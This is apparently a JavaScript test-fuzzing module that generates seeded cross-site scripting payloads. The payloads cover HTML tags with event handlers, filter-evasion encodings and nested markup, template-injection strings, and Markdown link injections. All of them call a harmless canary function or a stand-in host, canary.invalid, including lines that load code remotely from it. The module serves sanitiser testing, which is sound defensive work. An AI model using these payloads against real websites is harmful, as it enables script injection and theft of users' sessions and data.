// Texts that try to run as a script, in the shapes that public lists have: tags and handlers, filter evasions, and Markdown.
// Each calls `canary(N)` or asks for `//canary.invalid/N`; the same seed gives the same list.

/** Numbers from a seed (mulberry32). */
function numbers(seed) {
  return () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const TAGS = ['img', 'svg', 'body', 'input', 'video', 'audio', 'details', 'iframe', 'object', 'embed', 'a', 'select', 'textarea', 'marquee', 'math', 'form', 'button', 'style', 'link', 'meta', 'base', 'template', 'xss', 'p', 'table', 'keygen', 'isindex', 'frameset', 'noscript', 'title', 'animate', 'set', 'image', 'source', 'track', 'dialog'];
const HANDLERS = ['onerror', 'onload', 'onfocus', 'onclick', 'onmouseover', 'ontoggle', 'onbegin', 'onstart', 'onanimationstart', 'ontransitionend', 'onpointerenter', 'onbeforetoggle', 'oncontentvisibilityautostatechange', 'onscrollend', 'onpageshow', 'onhashchange', 'oncut', 'onauxclick', 'onwheel', 'onsecuritypolicyviolation', 'onunhandledrejection'];
const LEADS = ['src=x', 'src=//canary.invalid/N', 'href=//canary.invalid/N', 'autofocus tabindex=1', 'open', 'style="background:url(//canary.invalid/N)"', 'style=animation-name:x', 'data=//canary.invalid/N', 'srcdoc="&lt;script&gt;parent.canary(N)&lt;/script&gt;"', 'formaction=javascript:canary(N)', 'xlink:href=javascript:canary(N)', 'action=javascript:canary(N)', 'poster=//canary.invalid/N', 'srcset="//canary.invalid/N 1x"', 'background=//canary.invalid/N', 'ping=//canary.invalid/N', 'http-equiv=refresh content="0;url=//canary.invalid/N"', 'rel=stylesheet'];
const CALLS = ['canary(N)', 'canary`N`', 'window["can"+"ary"](N)', 'top.canary(N)', 'eval("canary(N)")', 'setTimeout("canary(N)")', '[N].map(canary)', 'canary&#40;N&#41;', 'canary&lpar;N&rpar;', '\\u0063anary(N)', 'fetch("//canary.invalid/N")', 'location="//canary.invalid/N"', 'import("//canary.invalid/N")', 'new Image().src="//canary.invalid/N"'];
const SCHEMES = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java&#x0A;script:', 'java&#10;script:', '&#106;avascript:', '&#x6A;&#x61;vascript:', 'javascript&colon;', '\x01javascript:', ' javascript:', 'vbscript:', 'data:text/html,<script>parent.canary(N)</script>', 'data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=', 'data:image/svg+xml,<svg onload=canary(N)>', 'javascript%3A', 'feed:javascript:', 'view-source:javascript:', 'jar:javascript:', '//canary.invalid/N#', 'https:canary.invalid/N#', '\\\\canary.invalid\\N#', '/\\canary.invalid/N#'];
const BREAKS = ['', '">', "'>", '`>', '--><', ']]>', '</title>', '</textarea>', '</script>', '</style>', '</noscript>', '</a>', '</td></table>', '\\">', '&quot;>', '%22%3E', '{{', '{%', '${', '{{{', '<!--', '<![CDATA[', '\u0000', '＂＞', '</p>', '*/', '?>'];
const GAPS = [' ', '/', '\t', '\n', '\f', '//', '/x=y/', '\u00a0', '%0a', '+'];

const KINDS = [
  // Tags with handlers.
  (pick, n) => `${pick(BREAKS)}<${pick(TAGS)}${pick(GAPS)}${pick(LEADS)}${pick(GAPS)}${pick(HANDLERS)}=${pick(['', '"', "'", '`'])}${pick(CALLS)}${pick(['', '"', "'"])}${pick(['>', '/>', '', '//', '><'])}`.replaceAll('N', n),
  // What is meant to slip past filters: cases, entities, unfinished and nested markup, template languages.
  (pick, n) => pick([
    () => `${pick(BREAKS)}<ScRiPt${pick(GAPS)}${pick(['', 'src=//canary.invalid/N'])}>${pick(CALLS)}</sCrIpT${pick(['>', ' >', '\n>', ''])}`,
    () => `${pick(BREAKS)}<scr<script>ipt>${pick(CALLS)}</scr</script>ipt>`,
    () => `&lt;script&gt;${pick(CALLS)}&lt;/script&gt;`,
    () => `%3Cscript%3E${pick(CALLS)}%3C/script%3E`,
    () => `\\x3cscript\\x3e${pick(CALLS)}\\x3c/script\\x3e`,
    () => `\\u003cscript\\u003e${pick(CALLS)}\\u003c/script\\u003e`,
    () => `＜script＞${pick(CALLS)}＜/script＞`,
    () => `" ${pick(HANDLERS)}=${pick(CALLS)} autofocus x="`,
    () => `' ${pick(HANDLERS)}='${pick(CALLS)}' autofocus tabindex='1`,
    () => `{{constructor.constructor('${pick(CALLS)}')()}}`,
    () => `{% raw %}<script>${pick(CALLS)}</script>{% endraw %}`,
    () => `{{ '<script>canary(N)</script>' | safe }}`,
    () => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${pick(CALLS)}&gt;">`,
    () => `<svg><style><img src=x onerror=${pick(CALLS)}></style></svg>`,
    () => `<noscript><p title="</noscript><img src=x onerror=${pick(CALLS)}>">`,
    () => `<svg><a><animate attributeName=href values="${pick(SCHEMES)}${pick(CALLS)}" /><text y=20>x</text></a></svg>`,
    () => `<form id=x tabindex=0 onfocus=${pick(CALLS)}><input name=attributes><input name=parentNode>`,
    () => `@import url(//canary.invalid/N);`,
    () => `<?xml-stylesheet href="//canary.invalid/N"?>`,
    () => `<!DOCTYPE x [<!ENTITY y SYSTEM "//canary.invalid/N">]>&y;`,
    () => `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${pick(CALLS)} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=canary(N)//>\\x3e`,
    () => `\u202e<script>${pick(CALLS)}</script>\u202c`,
    () => `+ADw-script+AD4-${pick(CALLS)}+ADw-/script+AD4-`,
  ])().replaceAll('N', n),
  // Markdown that means markup: destinations, titles, references, autolinks, attributes.
  (pick, n) => pick([
    () => `[x](${pick(SCHEMES)}${pick(CALLS)})`,
    () => `[x](<${pick(SCHEMES)}${pick(CALLS)}>)`,
    () => `![x](${pick(SCHEMES)}${pick(CALLS)})`,
    () => `![x" ${pick(HANDLERS)}="${pick(CALLS)}](y)`,
    () => `[x](y "z\\" ${pick(HANDLERS)}=${pick(CALLS)} a=\\"")`,
    () => `[x](y '" ${pick(HANDLERS)}="${pick(CALLS)}')`,
    () => `<${pick(SCHEMES)}${pick(CALLS)}>`,
    () => `[x]: ${pick(SCHEMES)}${pick(CALLS)}`,
    () => `[x][${pick(BREAKS)}<img src=x onerror=${pick(CALLS)}>]`,
    () => `[<img src=x onerror=${pick(CALLS)}>](y)`,
    () => `\`<img src=x onerror=${pick(CALLS)}>\``,
    () => `\`\`\`"><img src=x onerror=${pick(CALLS)}>`,
    () => `x{onclick=${pick(CALLS)}}`,
    () => `[^<img src=x onerror=${pick(CALLS)}>]`,
    () => `| <img src=x onerror=${pick(CALLS)}> | ${pick(SCHEMES)}${pick(CALLS)} |`,
    () => `https://a.invalid/"${pick(HANDLERS)}="${pick(CALLS)}`,
    () => `<https://a.invalid/"><img src=x onerror=${pick(CALLS)}>`,
    () => `\\<script>${pick(CALLS)}\\</script>`,
    () => `<details open ontoggle=${pick(CALLS)}>**x**</details>`,
  ])().replaceAll('N', n),
];

/** `count` payloads, the kinds in turns. */
export function payloads(count, seed = 14) {
  const random = numbers(seed);
  const pick = list => list[Math.floor(random() * list.length)];
  return Array.from({ length: count }, (_, n) => KINDS[n % KINDS.length](pick, String(n)));
}
